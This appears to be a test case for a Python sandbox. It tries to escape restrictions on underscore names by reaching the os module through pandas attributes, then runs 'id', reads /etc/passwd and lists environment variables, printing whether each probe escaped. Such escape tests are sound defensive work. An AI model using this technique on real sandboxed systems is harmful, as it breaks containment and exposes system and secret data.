# /// case
# technique = "import-tricks"
# analysis = ["dynamic-attribute", "module-leak"]
# without_analysis = "contained"
# reference = "CVE-2024-3271, CVE-2024-3098"
# ///
# The check refuses names with underscores; libraries hold what is wanted under plain names.
import pandas as pd
found = None
for path in ("io.common.os", "core.common.builtins", "compat.sys", "io.pickle.pickle"):
    value = pd
    for name in path.split("."):
        value = getattr(value, name, None)
    if value is not None and hasattr(value, "popen"):
        found = value
    if value is not None and hasattr(value, "modules"):
        found = found or value.modules["os"]
if found is None:
    found = pd.io.common.os

def probe(os):
    actions = (
        lambda: os.popen("id").read(),
        lambda: os.read(os.open("/etc/passwd", os.O_RDONLY), 64).decode(),
        lambda: " ".join(key for key in os.environ if key.startswith(("CARGO", "CANARY"))),
    )
    for action in actions:
        try:
            text = action()
        except BaseException as error:
            print("contained", type(error).__name__)
            continue
        print("ESCAPED " + text[:40] if text.strip() else "contained, empty")

probe(found)
